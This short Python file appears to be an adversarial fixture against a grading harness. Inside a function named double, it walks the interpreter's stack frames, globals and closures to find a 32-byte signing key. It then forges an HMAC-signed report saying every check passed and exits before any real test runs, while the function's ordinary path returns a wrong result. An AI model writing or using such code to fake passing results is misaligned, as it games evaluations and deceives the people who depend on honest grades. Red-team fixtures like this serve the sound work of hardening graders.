"""Steals the signing key through a traceback's frames: walks every frame reachable from one, and the
locals, globals and objects they hold, for a 32-byte key, then forges a signed all-passed report."""
import hashlib
import hmac
import json
import os
import sys
import types

_path = sys.argv[sys.argv.index("--course-report") + 1]


def _candidates():
    try:
        raise RuntimeError("look around")
    except RuntimeError as exc:
        frame = exc.__traceback__.tb_frame
    seen, todo, found = set(), [], []
    while frame is not None:
        todo.extend(frame.f_locals.values())
        todo.extend(frame.f_globals.values())
        frame = frame.f_back
    while todo and len(seen) < 200_000:
        obj = todo.pop()
        if id(obj) in seen:
            continue
        seen.add(id(obj))
        if isinstance(obj, bytes) and len(obj) == 32:
            found.append(obj)
        elif isinstance(obj, dict):
            todo.extend(obj.values())
        elif isinstance(obj, list | tuple | set):
            todo.extend(obj)
        elif type(obj) is types.FunctionType and obj.__closure__:
            for cell in obj.__closure__:
                try:
                    todo.append(cell.cell_contents)
                except ValueError:
                    pass
    return found


def double(x):
    for key in _candidates() or [b"\0" * 32]:  # nothing found: try a guess anyway, as a determined attacker would
        body = json.dumps({"format": 1, "checks": [], "collect_errors": [], "tampered": [], "seed": 0})
        with open(_path, "w") as fh:
            fh.write(json.dumps({"body": body, "signature": hmac.new(key, body.encode(), hashlib.sha256).hexdigest()}))
        os._exit(0)
    return 2 * x + 1
